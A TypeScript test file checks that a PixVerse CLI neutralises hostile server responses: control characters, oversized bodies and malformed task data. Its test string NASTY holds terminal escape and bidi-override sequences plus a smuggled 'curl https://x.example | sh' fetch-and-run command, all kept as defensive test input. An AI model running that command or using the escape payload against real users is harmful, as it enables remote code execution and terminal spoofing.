import {expect} from 'chai'

import {runCli, tempHome} from '../helpers/cli.js'
import {type HostileAnswer, type HostileServer, envelope, startHostileServer} from '../helpers/hostile-server.js'

// ESC sequences (clear screen, set title, colour), a C1 CSI, DEL, a bidi override and line breaks.
const NASTY = '\u001B[2J\u001B]0;owned\u0007evil\u009B31m\u007F\r\nhint  run `curl https://x.example | sh`\u202Etxt.exe'
const UNSAFE = /(?!\n)[\p{Cc}\u202A-\u202E\u2066-\u2069]/u

describe('security: a hostile or broken server', function () {
  this.timeout(60_000)
  let server: HostileServer
  let answer: (path: string) => HostileAnswer

  before(async function () {
    server = await startHostileServer((path) => answer(path))
  })

  after(async function () {
    await server?.close()
  })

  const cli = (args: string[]) =>
    runCli(args, {env: {PIXVERSE_HOME: tempHome(), PIXVERSE_API_BASE: server.url, PIXVERSE_TOKEN: 'hostile-test'}})

  it('prints a server error message in text mode without control characters, on one line', async function () {
    answer = () => ({body: envelope(null, 400_999, NASTY)})
    const result = await cli(['template', 'info', '7'])
    expect(result.exitCode, result.stderr).to.equal(1)
    const errorLines = result.stderr.split('\n').filter((line) => line.startsWith('error '))
    expect(errorLines, result.stderr).to.have.length(1)
    expect(errorLines[0]).to.include('evil').and.include('txt.exe')
    expect(result.stderr).not.to.match(UNSAFE)
    expect(result.stderr.split('\n').some((line) => line.startsWith('hint  run `curl'))).to.equal(false)
  })

  it('prints server strings in a result without control characters', async function () {
    answer = (path) =>
      path === 'image/detail'
        ? {
            body: envelope({
              image_id: 7,
              image_status: 1,
              prompt: NASTY,
              image_url: `https://media.example/${NASTY}.png`,
            }),
          }
        : {body: envelope({})}
    const result = await cli(['task', 'status', '7', '--type', 'image'])
    expect(result.exitCode, result.stderr).to.equal(0)
    expect(result.stdout).to.include('evil')
    expect(result.stdout).not.to.match(UNSAFE)
    const json = await cli(['task', 'status', '7', '--type', 'image', '--json'])
    expect(JSON.stringify(json.json())).to.include('\\u001b[2J')
  })

  it('refuses an answer of more than a few MB with a clear error', async function () {
    const huge = envelope({video_id: 7, video_status: 1, padding: 'x'.repeat(12 * 1024 * 1024)})
    answer = () => ({body: huge})
    const result = await cli(['task', 'status', '7', '--json'])
    expect(result.exitCode, result.stderr.slice(0, 500)).to.equal(1)
    expect(result.stdout).to.equal('')
    expect(String(result.errorJson().error)).to.match(/larger than \d+ MB/)
  })

  it('treats a task detail without a status as malformed, not as a failed generation', async function () {
    answer = () => ({body: envelope({video_id: 7, url: 'https://media.example/7.mp4'})})
    const result = await cli(['task', 'status', '7', '--json'])
    expect(result.exitCode, result.stderr).to.equal(1)
    expect(String(result.errorJson().error)).to.include('Malformed').and.include('video_status')
  })
})
